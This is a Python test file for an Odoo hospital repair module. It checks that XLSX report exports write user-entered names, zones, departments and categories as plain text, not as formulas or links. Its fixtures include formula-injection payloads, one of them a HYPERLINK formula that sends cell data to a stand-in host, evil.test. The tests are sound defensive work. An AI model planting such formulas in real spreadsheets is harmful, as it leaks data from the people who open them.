import io
from datetime import timedelta

import openpyxl

from odoo import fields
from odoo.tests import tagged

from .common import HospitalRepairCommon

# text users type (their name, a zone, a department) that xlsxwriter's
# write() would turn into a live formula or a link
REPORTER = '=HYPERLINK("https://evil.test/?leak="&A2,"详情")'
ZONE = "=1+1"
# the fixture's floor 3F once the campus above it is named ZONE
ZONE_PATH = f"{ZONE} / 门诊楼 / 3F"
DEPARTMENT = "https://evil.test/登录"
CATEGORY = "@SUM(1,1)"


@tagged("post_install", "-at_install")
class TestXlsxUserText(HospitalRepairCommon):
    """Cells taken from user text are written as strings, never formulas."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.requester_a.name = REPORTER
        cls.dept_a.name = DEPARTMENT
        # the root zone, so that the complete name of every zone starts with the formula
        cls.campus.name = ZONE
        cls.cat_water.name = CATEGORY
        cls.order = cls._submitted_order()

    def render(self, xmlid, records, user):
        """The XLSX of ``records`` as ``user`` gets it from the report action."""
        content, kind = self.env["ir.actions.report"].with_user(user)._render_xlsx(
            xmlid, records.ids, None)
        self.assertEqual(kind, "xlsx")
        return openpyxl.load_workbook(io.BytesIO(content))

    def assertTextCell(self, cell, value):
        self.assertEqual((cell.data_type, cell.value), ("s", value), cell.coordinate)
        self.assertIsNone(cell.hyperlink, cell.coordinate)

    def test_order_export_writes_user_text_as_text(self):
        self.assertEqual(self.order.reporter_name, REPORTER)
        draft = self._new_order(user=self.requester_b)
        orders = self.order | draft
        sheet = self.render("hospital_repair.action_report_order_xlsx", orders, self.dispatcher).worksheets[0]
        header = [cell.value for cell in sheet[1]]
        rows = {
            cells[0].value: dict(zip(header, cells, strict=True))
            for cells in sheet.iter_rows(min_row=2, max_row=3)
        }
        row = rows[self.order.name]
        self.assertTextCell(row["Reporter"], REPORTER)
        self.assertTextCell(row["Department"], DEPARTMENT)
        self.assertTextCell(row["Zone"], ZONE_PATH)
        self.assertTextCell(row["Category"], CATEGORY)
        # the draft, never reported, has an empty report time (not FALSE)
        self.assertIsNone(rows[draft.name]["Reported On"].value)

    def test_statistics_export_writes_user_text_as_text(self):
        # a period around today in any time zone
        today = fields.Date.today()
        appraisal = self.env["hospital.repair.appraisal"].with_user(self.manager).create({
            "date_from": today - timedelta(days=1), "date_to": today + timedelta(days=1),
        })
        book = self.render("hospital_repair.action_report_statistics_xlsx", appraisal, self.manager)
        for sheet, value in (("By Zone", ZONE_PATH), ("By Department", DEPARTMENT), ("By Category", CATEGORY)):
            labels = [row[0] for row in book[sheet].iter_rows(min_row=2)]
            [cell] = [cell for cell in labels if cell.value == value]
            self.assertTextCell(cell, value)
